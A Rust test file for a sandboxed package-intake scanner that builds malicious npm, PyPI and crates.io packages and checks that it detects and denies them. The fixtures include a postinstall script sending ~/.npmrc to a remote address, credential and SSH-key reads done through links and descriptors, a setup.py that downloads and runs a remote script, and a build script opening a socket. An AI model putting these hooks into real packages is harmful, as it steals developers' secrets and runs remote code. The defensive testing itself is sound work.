//! End-to-end tests of `zt deps intake --dynamic`: the real binary runs a package's
//! install-time code in the build sandbox. Malicious packages are made here; benign ones are
//! real releases committed under `tests/data/dynamic/` (see its README for their sources).
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Output;

use zt_deps::intake::archive::{gzip, write_tar};

fn zt(dir: &Path, args: &[&str]) -> Output {
    zt_as(dir, args, false)
}

/// `zt` itself, or with `without_admin` as `setpriv` runs it without `CAP_SYS_ADMIN` (what
/// root in a container has, and every other user): fanotify then cannot name the thread
/// that opened a canary, and zt watches opens with seccomp instead.
fn zt_as(dir: &Path, args: &[&str], without_admin: bool) -> Output {
    let bin = Path::new(env!("CARGO_BIN_EXE_zt"));
    let mut c = if without_admin {
        let mut c = zt_test_support::command(Path::new("setpriv"), dir);
        c.args([
            "--bounding-set",
            "-sys_admin",
            "--inh-caps",
            "-sys_admin",
            "--",
        ]);
        c.arg(bin);
        c
    } else {
        zt_test_support::command(bin, dir)
    };
    // rustup's `rustc` finds its toolchain through these (HOME is the test's)
    for var in ["RUSTUP_HOME", "RUSTUP_TOOLCHAIN", "CARGO_HOME"] {
        if let Some(v) = std::env::var_os(var) {
            c.env(var, v);
        }
    }
    c.args(args).output().unwrap()
}

/// Whether the sandbox can run here (namespaces and Landlock); the tests of `zt build` need
/// the same. Outside CI a machine without it skips, saying so.
fn sandbox_ready(dir: &Path) -> bool {
    let o = zt(dir, &["sandbox-probe", "--", "/bin/true"]);
    if o.status.success() {
        return true;
    }
    common::skip_outside_ci(&format!(
        "the build sandbox cannot run here: {}",
        String::from_utf8_lossy(&o.stderr)
    ));
    false
}

fn tool(name: &str) -> bool {
    let found = ["/usr/bin", "/bin", "/usr/local/bin"]
        .iter()
        .any(|d| Path::new(d).join(name).is_file());
    if !found {
        common::skip_outside_ci(&format!("`{name}` is not installed in the base system"));
    }
    found
}

fn has_rustc() -> bool {
    let found = std::process::Command::new("rustc")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        common::skip_outside_ci("no `rustc` to compile build scripts with");
    }
    found
}

fn intake(dir: &Path, package: &str, ecosystem: &str, archive: &Path) -> serde_json::Value {
    intake_as(dir, package, ecosystem, archive, false)
}

fn intake_as(
    dir: &Path,
    package: &str,
    ecosystem: &str,
    archive: &Path,
    without_admin: bool,
) -> serde_json::Value {
    let o = zt_as(
        dir,
        &[
            "deps",
            "intake",
            package,
            "--ecosystem",
            ecosystem,
            "--archive",
            archive.to_str().unwrap(),
            "--allow-unknown-age",
            "--dynamic",
            "--json",
        ],
        without_admin,
    );
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

/// An npm token (`npm_` and 36 letters or digits) in `text`, if any.
fn regex_lite_token(text: &str) -> Option<String> {
    text.match_indices("npm_").find_map(|(i, _)| {
        let t = text.get(i + 4..i + 40)?;
        t.bytes()
            .all(|b| b.is_ascii_alphanumeric())
            .then(|| format!("npm_{t}"))
    })
}

/// The dynamic findings of a decision as (rule, severity, message).
fn dynamic_findings(d: &serde_json::Value) -> Vec<(String, String, String)> {
    d["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["source"]["kind"] == "dynamic")
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                f["message"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn denies(d: &serde_json::Value) -> Vec<(String, String)> {
    dynamic_findings(d)
        .into_iter()
        .filter(|(_, s, _)| s == "deny")
        .map(|(r, _, m)| (r, m))
        .collect()
}

fn tgz(dir: &Path, name: &str, members: &[(&str, &[u8], u32)]) -> PathBuf {
    let path = dir.join(name);
    fs_err::write(&path, gzip(&write_tar(members))).unwrap();
    path
}

#[test]
fn an_npm_postinstall_that_reads_npmrc_and_sends_it_is_denied() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("node") {
        return;
    }
    let pkg: &[u8] = br#"{"name":"left-padder","version":"1.0.1","scripts":{"postinstall":"node lib/setup.js"}}"#;
    let js: &[u8] = br#"
const fs = require('fs'), os = require('os'), net = require('net'), path = require('path');
let token = '';
try { token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
fs.writeFileSync(path.join(os.tmpdir(), 'stage'), token);
const s = net.connect(8443, '203.0.113.9', () => s.end(token));
s.on('error', () => {
  console.log(token);
  require('child_process').spawnSync('/bin/echo', [token.trim()]);
  process.exit(0);
});
"#;
    let archive = tgz(
        d,
        "left-padder-1.0.1.tgz",
        &[
            ("package/package.json", pkg, 0o644),
            ("package/lib/setup.js", js, 0o644),
        ],
    );
    let dec = intake(d, "left-padder@1.0.1", "npm", &archive);
    assert_eq!(dec["verdict"], "rejected");
    let deny = denies(&dec);
    let rules: Vec<&str> = deny.iter().map(|(r, _)| r.as_str()).collect();
    assert!(rules.contains(&"dynamic-canary-read"), "{deny:#?}");
    assert!(rules.contains(&"dynamic-network"), "{deny:#?}");
    let read = &deny
        .iter()
        .find(|(r, _)| r == "dynamic-canary-read")
        .unwrap()
        .1;
    assert!(read.contains("~/.npmrc") && read.contains("node"), "{read}");
    let net = &deny.iter().find(|(r, _)| r == "dynamic-network").unwrap().1;
    assert!(net.contains("203.0.113.9:8443"), "{net}");
    // the evidence is in the signed decision: the hook, its command and what it did
    let hook = &dec["dynamic"]["hooks"][0];
    assert_eq!(hook["hook"], "npm postinstall");
    assert_eq!(hook["network"][0]["port"], 8443);
    assert!(
        dec["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["rule"] == "dynamic-canary-read")
    );
    // the hook printed the token and passed it on a command line: the decision keeps the
    // fact, not the value
    let leak = deny
        .iter()
        .find(|(r, _)| r == "dynamic-canary-leak")
        .unwrap_or_else(|| panic!("{deny:#?}"));
    assert!(leak.1.contains("~/.npmrc"), "{}", leak.1);
    let text = serde_json::to_string(&dec).unwrap();
    assert!(text.contains("<canary ~/.npmrc>"), "{text}");
    let token = regex_lite_token(&text);
    assert!(
        token.is_none(),
        "a canary value is in the decision: {token:?}"
    );
}

/// Whether this process holds `CAP_SYS_ADMIN` (bit 21 of `CapEff`), which a `zt` it starts
/// inherits: then zt sees the canaries' openings with fanotify.
fn has_cap_sys_admin() -> bool {
    fs_err::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:"))
        .and_then(|hex| u64::from_str_radix(hex.trim(), 16).ok())
        .is_some_and(|caps| caps & (1 << 21) != 0)
}

/// The hook reaches the canaries only through a directory descriptor (`O_DIRECTORY` opens are
/// not stopped on their way: the file's own open relative to it is), a symbolic link to the
/// absolute path, a relative path up through `..` and a hard link of its own: each read is
/// still seen, as a read of the canary — with fanotify where zt holds `CAP_SYS_ADMIN`, and
/// with the seccomp watch of every open without it.
#[test]
fn canary_reads_through_a_directory_descriptor_or_a_link_are_seen() {
    canary_reads_by_any_way_are_seen(false);
}

#[test]
fn canary_reads_are_seen_by_the_seccomp_watch_without_cap_sys_admin() {
    if !tool("setpriv") {
        return;
    }
    canary_reads_by_any_way_are_seen(true);
}

fn canary_reads_by_any_way_are_seen(without_admin: bool) {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("python3") {
        return;
    }
    let pkg: &[u8] =
        br#"{"name":"dir-reader","version":"0.1.0","scripts":{"postinstall":"python3 steal.py"}}"#;
    let py: &[u8] = br#"
import os
home = os.path.expanduser("~")
d = os.open(home + "/.aws", os.O_RDONLY | os.O_DIRECTORY)
f = os.open("credentials", os.O_RDONLY, dir_fd=d)
os.read(f, 100)
os.symlink(home + "/.npmrc", "rc")
open("rc").read()
rel = os.path.relpath(home + "/.git-credentials")
assert rel.startswith("../"), rel
open(rel).read()
try:
    os.link(home + "/.pypirc", "pp")
    print("hard link made")
except OSError as e:
    print("no hard link:", e)
else:
    open("pp").read()
# a child forked without exec reads a canary and is gone at once: still named (python3)
pid = os.fork()
if pid == 0:
    open(home + "/.ssh/id_ed25519").read()
    os._exit(0)
os.waitpid(pid, 0)
"#;
    let archive = tgz(
        d,
        "dir-reader-0.1.0.tgz",
        &[
            ("package/package.json", pkg, 0o644),
            ("package/steal.py", py, 0o644),
        ],
    );
    let dec = intake_as(d, "dir-reader@0.1.0", "npm", &archive, without_admin);
    let hook = &dec["dynamic"]["hooks"][0];
    assert_eq!(hook["ended"]["status"], "exited", "{hook:#}");
    assert_eq!(hook["ended"]["code"], 0, "{hook:#}");
    let by = if !without_admin && has_cap_sys_admin() {
        "fanotify"
    } else {
        "seccomp"
    };
    assert_eq!(hook["opens_watched_by"], by, "{hook:#}");
    // each read is by the hook's python3 (the forked child's too), whichever way it was seen
    for r in hook["canary_reads"].as_array().unwrap() {
        assert!(r["program"].as_str().unwrap().contains("python3"), "{r:#}");
    }
    assert_eq!(dec["verdict"], "rejected");
    let reads: Vec<String> = denies(&dec)
        .into_iter()
        .filter(|(r, _)| r == "dynamic-canary-read")
        .map(|(_, m)| m)
        .collect();
    let linked = hook["output_tail"]
        .as_str()
        .unwrap_or_default()
        .contains("hard link made");
    let mut canaries = vec![
        "~/.aws/credentials",
        "~/.npmrc",
        "~/.git-credentials",
        "~/.ssh/id_ed25519",
    ];
    if linked {
        canaries.push("~/.pypirc");
    }
    for canary in canaries {
        assert!(
            reads.iter().any(|m| m.contains(canary)),
            "{canary} not seen: {reads:#?}"
        );
    }
}

#[test]
fn a_setup_py_that_downloads_and_runs_a_script_is_denied() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("python3") {
        return;
    }
    let setup: &[u8] = br##"
import os, subprocess, stat
from setuptools import setup
target = os.path.join(os.environ.get("TMPDIR", "/tmp"), "bootstrap.sh")
for fetch in (["curl", "-fsSL", "-m", "2", "-o", target], ["wget", "-q", "-t", "1", "-T", "2", "-O", target]):
    try:
        subprocess.call(fetch + ["http://198.51.100.23/bootstrap.sh"])
    except OSError:
        pass
if not os.path.exists(target):
    with open(target, "w") as f:
        f.write("#!/bin/sh\necho hi\n")
os.chmod(target, 0o755)
subprocess.call([target])
setup(name="fastjsonx", version="0.3.0", py_modules=[])
"##;
    let archive = tgz(
        d,
        "fastjsonx-0.3.0.tar.gz",
        &[
            ("fastjsonx-0.3.0/setup.py", setup, 0o644),
            (
                "fastjsonx-0.3.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: fastjsonx\nVersion: 0.3.0\n",
                0o644,
            ),
        ],
    );
    let dec = intake(d, "fastjsonx@0.3.0", "pypi", &archive);
    assert_eq!(dec["verdict"], "rejected");
    let deny = denies(&dec);
    let rules: Vec<&str> = deny.iter().map(|(r, _)| r.as_str()).collect();
    // curl/wget are found only where the base system has them; the written script's run
    // is seen either way
    assert!(rules.contains(&"dynamic-exec-written"), "{deny:#?}");
    let exec = &deny
        .iter()
        .find(|(r, _)| r == "dynamic-exec-written")
        .unwrap()
        .1;
    assert!(exec.contains("/tmp/bootstrap.sh"), "{exec}");
    if Path::new("/usr/bin/curl").is_file() {
        assert!(rules.contains(&"dynamic-network-tool"), "{deny:#?}");
        assert!(rules.contains(&"dynamic-network"), "{deny:#?}");
    }
    assert_eq!(dec["dynamic"]["hooks"][0]["file"], "setup.py");
}

#[test]
fn a_build_rs_that_opens_a_socket_is_denied() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) {
        return;
    }
    if !has_rustc() {
        return;
    }
    let manifest: &[u8] =
        b"[package]\nname = \"fast-hash\"\nversion = \"0.2.0\"\nedition = \"2021\"\n";
    let build: &[u8] = br#"
fn main() {
    let _ = std::net::TcpStream::connect(("192.0.2.77", 4444));
    println!("cargo:rerun-if-changed=build.rs");
}
"#;
    let archive = tgz(
        d,
        "fast-hash-0.2.0.crate",
        &[
            ("fast-hash-0.2.0/Cargo.toml", manifest, 0o644),
            ("fast-hash-0.2.0/build.rs", build, 0o644),
            ("fast-hash-0.2.0/src/lib.rs", b"pub fn h() {}\n", 0o644),
        ],
    );
    let dec = intake(d, "fast-hash@0.2.0", "crates.io", &archive);
    assert_eq!(dec["verdict"], "rejected");
    let deny = denies(&dec);
    let net = deny
        .iter()
        .find(|(r, _)| r == "dynamic-network")
        .unwrap_or_else(|| panic!("{deny:#?}\n{:#}", dec["dynamic"]));
    assert!(net.1.contains("192.0.2.77:4444"), "{}", net.1);
    assert!(net.1.contains("build-script-build"), "{}", net.1);
    assert_eq!(dec["dynamic"]["hooks"][0]["file"], "build.rs");
}

/// Real benign packages with install-time code (committed with their sources in
/// `tests/data/dynamic/README.md`): run, and nothing denies.
#[test]
fn real_benign_packages_with_install_scripts_are_not_denied() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("node") || !tool("python3") {
        return;
    }
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/dynamic");
    let list = fs_err::read_to_string(data.join("packages.tsv")).unwrap();
    let mut ran = 0;
    for line in list
        .lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
    {
        let cols: Vec<&str> = line.split('\t').collect();
        let (eco, package, file) = (cols[0], cols[1], cols[2]);
        if eco == "crates.io" && !has_rustc() {
            continue;
        }
        let dec = intake(d, package, eco, &data.join(file));
        let deny = denies(&dec);
        assert!(deny.is_empty(), "{package}: {deny:#?}");
        let hooks = dec["dynamic"]["hooks"].as_array().unwrap();
        assert!(
            !hooks.is_empty(),
            "{package}: no hook ran: {:#}",
            dec["dynamic"]
        );
        for h in hooks {
            assert_eq!(h["ended"]["status"], "exited", "{package}: {h:#}");
            assert!(!h["executed"].as_array().unwrap().is_empty(), "{package}");
        }
        ran += 1;
    }
    assert!(ran >= 5, "{ran} fixtures");
}

/// `[deps.malware] dynamic` in `zt.toml` turns the run on per ecosystem without the flag;
/// an entry naming no ecosystem is an error that says what to write.
#[test]
fn zt_toml_makes_dynamic_the_default_per_ecosystem() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("node") {
        return;
    }
    let pkg: &[u8] =
        br#"{"name":"hello-hook","version":"1.0.0","scripts":{"postinstall":"node -e 1"}}"#;
    let archive = tgz(
        d,
        "hello-hook-1.0.0.tgz",
        &[("package/package.json", pkg, 0o644)],
    );
    let run = |d: &Path| {
        zt(
            d,
            &[
                "deps",
                "intake",
                "hello-hook@1.0.0",
                "--ecosystem",
                "npm",
                "--archive",
                archive.to_str().unwrap(),
                "--allow-unknown-age",
                "--json",
            ],
        )
    };
    // not configured: no run
    let o = run(d);
    let dec: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(dec.get("dynamic").is_none(), "{dec:#}");
    // configured for npm: the hook runs
    fs_err::write(
        d.join("zt.toml"),
        "[deps.malware]\ndynamic = [\"npm\", \"pypi\"]\n",
    )
    .unwrap();
    let o = run(d);
    let dec: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        dec["dynamic"]["hooks"][0]["hook"], "npm postinstall",
        "{dec:#}"
    );
    assert!(denies(&dec).is_empty(), "{dec:#}");
    // a typo is refused, naming the entry and the fix
    fs_err::write(d.join("zt.toml"), "[deps.malware]\ndynamic = [\"nmp\"]\n").unwrap();
    let o = run(d);
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("`nmp`") && err.contains("help:"), "{err}");
}

/// Regression for the one-pass unpack (each file stamped and handed to the build user as it
/// is written, and the files before the hook taken from the unpack instead of a walk): a
/// hook that rewrites unpacked files in place keeping their size (one in a directory the
/// unpack made four levels down), swaps one for a symlink, creates one in the package and
/// one in the home must show every one of them as a write, and nothing it left alone.
#[test]
fn in_place_same_size_rewrites_and_a_file_swapped_for_a_link_are_writes() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("node") {
        return;
    }
    let pkg: &[u8] =
        br#"{"name":"quiet-patch","version":"1.0.0","scripts":{"postinstall":"node hook.js"}}"#;
    let js: &[u8] = br#"
const fs = require('fs'), os = require('os'), path = require('path');
fs.writeFileSync(path.join(__dirname, 'same.js'), 'B'.repeat(64));
const fd = fs.openSync(path.join(__dirname, 'lib/a/b/c/deep.js'), 'r+');
fs.writeSync(fd, 'Z', 3);
fs.closeSync(fd);
fs.unlinkSync(path.join(__dirname, 'link.js'));
fs.symlinkSync('same.js', path.join(__dirname, 'link.js'));
fs.writeFileSync(path.join(__dirname, 'new.js'), '1');
fs.writeFileSync(path.join(os.homedir(), '.quiet'), '1');
"#;
    let same = [b'A'; 64];
    let archive = tgz(
        d,
        "quiet-patch-1.0.0.tgz",
        &[
            ("package/package.json", pkg, 0o644),
            ("package/hook.js", js, 0o644),
            ("package/same.js", &same, 0o644),
            ("package/lib/a/b/c/deep.js", b"0123456789", 0o644),
            ("package/link.js", b"module.exports = 1;\n", 0o644),
            ("package/untouched.js", b"module.exports = 2;\n", 0o644),
        ],
    );
    let dec = intake(d, "quiet-patch@1.0.0", "npm", &archive);
    let hook = &dec["dynamic"]["hooks"][0];
    assert_eq!(hook["ended"]["status"], "exited", "{hook:#}");
    assert_eq!(hook["ended"]["code"], 0, "{hook:#}");
    let writes: Vec<(String, bool)> = hook["writes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| {
            (
                w["path"].as_str().unwrap().to_owned(),
                w["in_package"].as_bool().unwrap(),
            )
        })
        .collect();
    let pkg_dir = "/home/user/app/node_modules/quiet-patch";
    let mut expected: Vec<(String, bool)> = ["lib/a/b/c/deep.js", "link.js", "new.js", "same.js"]
        .iter()
        .map(|f| (format!("{pkg_dir}/{f}"), true))
        .collect();
    expected.push(("/home/user/.quiet".to_owned(), false));
    expected.sort();
    let mut got = writes.clone();
    got.sort();
    assert_eq!(got, expected, "{hook:#}");
}

/// A hook cannot fill the machine's memory or disk through the files it writes: its `/tmp`
/// is a tmpfs of at most `dynamic_disk_mib`, and once the file system of the package's tree
/// (a tmpfs on `/dev/shm` where there is one) has grown by more, the hook is killed, with a
/// warning that says so, and its tree is removed.
#[test]
fn a_hook_that_fills_its_tmp_or_its_tree_is_stopped_at_the_write_limit() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("node") {
        return;
    }
    fs_err::write(d.join("zt.toml"), "[deps.malware]\ndynamic_disk_mib = 16\n").unwrap();
    let pkg: &[u8] =
        br#"{"name":"disk-filler","version":"1.0.0","scripts":{"postinstall":"node fill.js"}}"#;
    let js: &[u8] = br#"
const fs = require('fs'), path = require('path');
const mib = Buffer.alloc(1 << 20, 0x5a);
try {
  const fd = fs.openSync('/tmp/fill', 'w');
  for (let i = 0; i < 64; i++) fs.writeSync(fd, mib);
  console.log('tmp: wrote 64 MiB');
} catch (e) {
  console.log('tmp: ' + e.code);
}
fs.unlinkSync('/tmp/fill');
const fd = fs.openSync(path.join(__dirname, 'junk'), 'w');
for (let i = 0; i < 1024; i++) fs.writeSync(fd, mib);
console.log('tree: wrote 1 GiB');
"#;
    let archive = tgz(
        d,
        "disk-filler-1.0.0.tgz",
        &[
            ("package/package.json", pkg, 0o644),
            ("package/fill.js", js, 0o644),
        ],
    );
    let dec = intake(d, "disk-filler@1.0.0", "npm", &archive);
    assert_eq!(dec["dynamic"]["write_limit"], 16 << 20, "{dec:#}");
    let hook = &dec["dynamic"]["hooks"][0];
    assert_eq!(hook["ended"]["status"], "write-limit", "{hook:#}");
    assert_eq!(hook["ended"]["limit_mib"], 16, "{hook:#}");
    let tail = hook["output_tail"].as_str().unwrap();
    assert!(tail.contains("tmp: ENOSPC"), "{tail}");
    assert!(!tail.contains("tree: wrote"), "{tail}");
    let found = dynamic_findings(&dec);
    assert!(
        found
            .iter()
            .any(|(rule, severity, message)| rule == "dynamic-write-limit"
                && severity == "warn"
                && message.contains("more than 16 MiB")),
        "{found:?}"
    );
}

/// The digests of the programs a hook executed are kept by file identity in
/// `.zt/cache/program-digests`: a second intake finds `node` there instead of hashing its
/// 99 MB again, with the same digest, and a program the hook itself wrote (changed just now)
/// is never kept.
#[test]
fn program_digests_are_cached_by_file_identity_but_not_for_programs_just_written() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    if !sandbox_ready(d) || !tool("node") || !tool("sha256sum") {
        return;
    }
    let pkg: &[u8] = br#"{"name":"cached-hook","version":"1.0.0","scripts":{"postinstall":"node -e \"require('fs').writeFileSync('/tmp/own.sh', '#!/bin/sh\\necho own\\n', {mode: 0o755}); require('child_process').execFileSync('/tmp/own.sh')\""}}"#;
    let archive = tgz(
        d,
        "cached-hook-1.0.0.tgz",
        &[("package/package.json", pkg, 0o644)],
    );
    let digest_of = |dec: &serde_json::Value, name: &str| -> String {
        dec["dynamic"]["hooks"][0]["executed"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["path"].as_str().unwrap().ends_with(name))
            .unwrap_or_else(|| panic!("{name} not executed: {dec:#}"))["digest"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let first = intake(d, "cached-hook@1.0.0", "npm", &archive);
    let node = digest_of(&first, "node");
    let own = digest_of(&first, "own.sh");
    let which = std::process::Command::new("sh")
        .args(["-c", "sha256sum \"$(readlink -f \"$(command -v node)\")\""])
        .output()
        .unwrap();
    let real = String::from_utf8_lossy(&which.stdout);
    assert_eq!(
        node,
        format!("sha256:{}", real.split_whitespace().next().unwrap())
    );
    let cache = fs_err::read_to_string(d.join(".zt/cache/program-digests")).unwrap();
    assert!(cache.contains(&node), "{cache}");
    assert!(
        !cache.contains(&own),
        "a program written by the hook was kept: {cache}"
    );
    // a second intake takes node's digest from the cache: the same
    let second = intake(d, "cached-hook@1.0.0", "npm", &archive);
    assert_eq!(digest_of(&second, "node"), node);
    assert_eq!(digest_of(&second, "own.sh"), own);
    // it is the cache's entry that the second run took (an entry changed by hand is believed:
    // `.zt` is the repository's own record, out of the sandbox's reach)
    let zero = format!("sha256:{}", "0".repeat(64));
    fs_err::write(
        d.join(".zt/cache/program-digests"),
        cache.replace(&node, &zero),
    )
    .unwrap();
    let changed = intake(d, "cached-hook@1.0.0", "npm", &archive);
    assert_eq!(digest_of(&changed, "node"), zero);
    // a damaged cache is only a slower run
    fs_err::write(d.join(".zt/cache/program-digests"), "garbage\n").unwrap();
    let third = intake(d, "cached-hook@1.0.0", "npm", &archive);
    assert_eq!(digest_of(&third, "node"), node);
}
